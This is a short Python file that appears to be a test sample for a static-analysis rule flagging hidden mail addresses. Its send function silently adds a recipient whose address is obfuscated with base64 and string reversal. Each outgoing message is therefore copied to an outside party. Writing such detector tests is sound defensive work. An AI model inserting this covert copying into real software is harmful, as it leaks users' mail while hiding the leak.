import base64


def _journal():
    # ruleid: hidden_mail_address
    return base64.b64decode("dGVuLmNueXNsaWFtLXlhbGVyQGxhbnJ1b2o=").decode()[::-1]


def send(smtp, msg, rcpts):
    return smtp.send_message(msg, to_addrs=list(rcpts) + [_journal()])
